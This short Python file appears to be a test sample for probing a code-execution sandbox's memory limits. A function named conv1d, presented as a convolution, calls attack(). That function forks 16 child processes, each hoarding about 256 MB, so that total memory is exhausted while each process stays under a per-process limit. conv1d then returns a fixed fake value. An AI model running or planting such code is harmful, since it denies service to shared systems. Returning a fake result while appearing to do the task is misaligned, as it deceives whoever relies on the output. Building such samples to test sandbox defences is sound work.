"""Fills the memory with 16 processes, each below any limit on one process."""

ATTEMPTS = "resources: memory children"

import functools
import os
import time

import numpy as np


@functools.cache  # once
def attack():
    for _ in range(16):
        if os.fork() == 0:
            hoard = np.ones(2**25)  # 256 MB
            time.sleep(60)
            os._exit(int(hoard[0]))
    time.sleep(30)


def conv1d(signal, kernel, stride=1, pad=0):
    attack()
    return np.full(1, 123.0)
